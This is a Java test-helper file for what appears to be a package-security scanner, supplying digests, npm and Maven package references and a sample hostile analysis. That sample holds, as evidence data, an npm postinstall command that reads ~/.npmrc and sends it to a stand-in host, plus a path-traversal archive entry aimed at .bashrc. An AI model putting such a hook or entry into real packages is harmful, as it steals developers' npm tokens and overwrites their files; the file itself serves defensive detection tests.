package dev.gatehouse.core.store;

import dev.gatehouse.analyzer.Analysis;
import dev.gatehouse.analyzer.ArchiveFinding;
import dev.gatehouse.analyzer.ArchiveProblem;
import dev.gatehouse.analyzer.ArtifactKind;
import dev.gatehouse.analyzer.Capability;
import dev.gatehouse.analyzer.CodeFinding;
import dev.gatehouse.analyzer.Evidence;
import dev.gatehouse.analyzer.Severity;
import dev.gatehouse.analyzer.Trigger;
import dev.gatehouse.policy.Ecosystem;
import dev.gatehouse.policy.PackageRef;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.HexFormat;
import java.util.List;

/** Values the storage tests share: digests of text, package references, a typical hostile analysis. */
public final class Samples {
  private Samples() {}

  /** A closed writer of {@code blobs} holding {@code text}, not yet committed. */
  public static BlobWriter write(BlobStore blobs, String text) throws java.io.IOException {
    BlobWriter writer = blobs.writer();
    try (writer) {
      writer.write(java.nio.ByteBuffer.wrap(text.getBytes(StandardCharsets.UTF_8)));
    }
    return writer;
  }

  public static String sha256(String text) {
    try {
      byte[] digest = MessageDigest.getInstance("SHA-256").digest(text.getBytes(StandardCharsets.UTF_8));
      return HexFormat.of().formatHex(digest);
    } catch (NoSuchAlgorithmException e) {
      throw new IllegalStateException(e);
    }
  }

  public static PackageRef npm(String name, String version) {
    String base = name.substring(name.lastIndexOf('/') + 1);
    return new PackageRef(Ecosystem.NPM, name, version, base + "-" + version + ".tgz");
  }

  public static PackageRef maven(String groupArtifact, String version) {
    String artifact = groupArtifact.substring(groupArtifact.indexOf(':') + 1);
    return new PackageRef(Ecosystem.MAVEN, groupArtifact, version, artifact + "-" + version + ".jar");
  }

  /** A postinstall that sends the npm token to a host that cannot resolve, and a traversal entry. */
  public static Analysis exfiltratingTarball(String sha256) {
    CodeFinding postinstall = new CodeFinding(Trigger.NPM_LIFECYCLE_SCRIPT,
        List.of(Capability.NETWORK, Capability.CREDENTIAL_READ), Severity.CRITICAL,
        "postinstall reads ~/.npmrc and sends it over the network",
        Evidence.of("package/package.json", "scripts.postinstall",
            "node -e \"require('https').get('https://collector.invalid/?t='+require('fs').readFileSync(...))\""));
    ArchiveFinding traversal = ArchiveFinding.of(ArchiveProblem.PATH_TRAVERSAL, "package/../../.bashrc",
        "entry name escapes the archive: package/../../.bashrc");
    return new Analysis(sha256, 1, ArtifactKind.NPM_TARBALL, List.of(postinstall, traversal));
  }
}
